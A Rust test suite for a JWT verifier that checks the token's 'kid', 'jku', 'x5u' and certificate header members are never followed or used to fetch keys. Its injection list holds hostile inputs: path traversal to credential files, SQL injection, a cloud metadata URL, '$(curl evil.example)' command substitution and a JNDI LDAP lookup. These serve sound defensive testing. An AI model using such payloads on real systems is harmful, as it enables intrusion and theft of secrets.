//! RFC 8725 §3.10: key references in a token are never followed, used for other look-ups, or printed unescaped.

use super::support::*;
use super::{code, segment};
use serde_json::{Value, json};
use testbed::keys;
use testbed::persona::TENANT;

const INJECTIONS: [&str; 16] = [
    "../../../../dev/null",
    "/proc/self/environ",
    "..\\..\\windows\\win.ini",
    "' OR '1'='1",
    "x' UNION SELECT 'key' --",
    "https://evil.example/keys",
    "http://169.254.169.254/metadata/identity/oauth2/token",
    "file:///etc/passwd",
    "$(curl evil.example)",
    "`id`",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "a\r\nx-injected: 1",
    "a\0b",
    "",
    "*",
];

#[test]
fn s3_10_kid_is_never_interpreted() {
    let tail = ada().build().split_once('.').unwrap().1.to_owned();
    let long = "k".repeat(100 * 1024);
    for kid in INJECTIONS.into_iter().chain([long.as_str()]) {
        let mut bench = Bench::warm(&settings());
        let header = segment(&ada().header("kid", kid).header_value());
        let (_, ruling) = bench.chat(&format!("{header}.{tail}"));
        match kid.len() {
            // This exceeds all bounds, so it is denied unread.
            102_400 => assert_eq!(code_of(&ruling), "token_too_large"),
            _ => assert_eq!(code_of(&ruling), "waiting", "{kid}"),
        }
        // The only possible call is the usual one to the issuer.
        for call in bench.calls.drain(..) {
            let target = &call.callout.target;
            assert_eq!(target.authority, "login.microsoftonline.com");
            assert_eq!(target.path, format!("/{TENANT}/discovery/v2.0/keys"));
            assert!(call.callout.body.is_empty());
        }
    }
}

#[test]
fn s3_10_kid_near_the_header_limit_is_refused() {
    for length in [256, 257, 2_000, 3_000, 4_000, 20_000] {
        let token = ada().header("kid", "k".repeat(length)).build();
        let found = code(&token);
        assert!(
            ["waiting", "token_malformed", "token_too_large"].contains(&&*found),
            "{length}: {found}"
        );
    }
}

#[test]
fn s3_10_kid_that_is_not_a_string_is_refused() {
    for kid in [json!(0), json!(["a"]), json!({"a": 1}), json!(true)] {
        assert_eq!(code(&ada().header("kid", kid).build()), "token_malformed");
    }
}

#[test]
fn s3_10_unknown_kid_never_falls_back_to_another_key() {
    // Signed by the right key, but with another kid.
    let token = ada().header("kid", "no-such-key");
    let mut bench = Bench::warm(&settings());
    let (id, ruling) = bench.chat(&token.build());
    assert_eq!(code_of(&ruling), "waiting");
    bench.answer(jwks(&[&keys::rsa()]));
    assert_eq!(bench.resume_woken(), [(id, "key_unknown".into())]);
}

#[test]
fn s3_10_x5t_does_not_replace_kid() {
    // With two keys, a token without kid is ambiguous, even with a thumbprint.
    let mut bench = Bench::cold(&settings());
    bench.answer(jwks(&[&keys::rsa(), &keys::other_rsa()]));
    let token = ada().without_header("kid").header("x5t", keys::rsa().kid());
    assert_eq!(bench.code(&token.build()), "key_unknown");
}

#[test]
fn s3_10_urls_and_certificates_in_the_header_are_ignored() {
    let evil = "https://evil.example/keys";
    let x5c = keys::other_rsa().to_entra_jwk("microsoftonline.com", None)["x5c"].clone();
    let members: [(&str, Value); 6] = [
        ("jku", json!(evil)),
        ("x5u", json!(evil)),
        ("x5c", x5c),
        ("x5t", json!(keys::other_rsa().kid())),
        ("x5t#S256", json!("AAAA")),
        ("iss", json!(evil)),
    ];
    for (name, value) in members {
        let mut bench = Bench::warm(&settings());
        let honest = ada().header(name, value.clone()).build();
        assert_eq!(bench.code(&honest), "permitted", "{name} is ignored");
        let forged = ada()
            .header(name, value)
            .forged_by(&keys::other_rsa())
            .build();
        assert_eq!(bench.code(&forged), "signature_invalid", "{name}");
        assert!(bench.calls.is_empty(), "{name} must fetch nothing");
    }
}
